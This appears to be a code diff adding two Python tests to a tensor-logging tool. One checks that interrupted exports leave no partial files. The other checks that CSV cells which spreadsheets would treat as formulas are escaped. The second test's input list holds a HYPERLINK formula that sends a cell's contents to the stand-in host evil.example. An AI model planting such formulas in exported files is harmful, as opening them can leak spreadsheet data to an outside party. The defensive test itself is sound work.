@@ -543,3 +543,63 @@ def test_report_renders_in_headless_chromium(run: Run, tmp_path: Path) -> None:
     assert match is not None, dom.stdout[-500:]
     assert int(match.group(1)) == int(match.group(2)) == n_images
     assert not [line for line in dom.stderr.splitlines() if "CONSOLE" in line or "Uncaught" in line]
+
+
+SIZE_LIMIT = 16_384  # bytes a file may grow to under RLIMIT_FSIZE: each output of the trial below is larger
+
+
+@pytest.mark.parametrize("target", ["t.csv", "t.parquet", "logdir", "r.html"])
+def test_an_output_cut_short_leaves_nothing_that_reads_as_whole(tmp_path: Path, target: str) -> None:
+    """hunt 41 F3: an export cut short (Ctrl-C, a full disk; here a write past the file size limit, which fails
+    at the same point every run) left its truncated file at the path asked for: a CSV that pandas read back as
+    a whole table, ending on a whole row, and event files TensorBoard showed as a complete run, which then made
+    the export's rerun refuse the folder ("holds event files already"). Outputs are written under a hidden
+    name and renamed at the end, or removed."""
+    resource = pytest.importorskip("resource")
+    if target == "t.parquet":
+        pytest.importorskip("pyarrow")
+    if target == "logdir":
+        pytest.importorskip("tensorboardX")
+    rng = np.random.default_rng(0)
+    with Writer(tmp_path / "run") as w:
+        for _ in range(40):
+            with w.stepping():
+                for i in range(8):
+                    w.save(f"weights/w{i}", rng.normal(size=200), ["weights"])
+    out = tmp_path / "out"
+    out.mkdir()
+    run, where = str(tmp_path / "run"), str(out / target)
+    args = {
+        "t.csv": ["export", run, "-o", where],
+        "t.parquet": ["export", run, "-o", where],
+        "logdir": ["export", "tensorboard", run, where],
+        "r.html": ["report", run, "--rule", "exploding_tensor", "-o", where],
+    }[target]
+
+    def limited() -> None:  # Python ignores SIGXFSZ: a write past the limit fails (EFBIG)
+        resource.setrlimit(resource.RLIMIT_FSIZE, (SIZE_LIMIT, SIZE_LIMIT))
+
+    result = subprocess.run(
+        [sys.executable, "-m", "tensortap.cli", *args], preexec_fn=limited, capture_output=True, text=True, timeout=120
+    )
+    assert result.returncode == 2 and "File too large" in result.stderr, result.stderr
+    assert [p for p in out.rglob("*") if p.is_file()] == []  # not the truncated output, not its partial file
+    again = cli(*args)  # the rerun is not refused for what the first one left
+    assert again.returncode == 0, again.stderr
+    assert [p.name for p in out.rglob("*") if p.is_file() and p.name.startswith(".")] == []
+    if target == "t.csv":
+        assert len(pd.read_csv(where)) == len(tensortap.create_trial(run).to_pandas())
+
+
+def test_csv_cells_that_a_spreadsheet_reads_as_formulas_start_with_a_quote(tmp_path: Path) -> None:
+    """hunt 41 F9: a stranger's tensor name ``=HYPERLINK(...)`` was written to the CSV as it is, a formula
+    that Excel and LibreOffice evaluate on opening the file; OWASP's advice: a ``'`` before such a cell."""
+    names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-x", "@SUM(A1)", "\tTab", "ok=1"]
+    with Writer(tmp_path / "run") as w, w.stepping():
+        for name in names:
+            w.save(name, np.float32(1.0), ["metrics"])
+    assert main(["export", str(tmp_path / "run"), "-o", str(tmp_path / "t.csv")]) == 0
+    written = set(pd.read_csv(tmp_path / "t.csv", keep_default_na=False)["name"])
+    assert written == {"'" + n for n in names[:-1]} | {"ok=1"}
+    stdout = cli("export", str(tmp_path / "run")).stdout
+    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"' in stdout
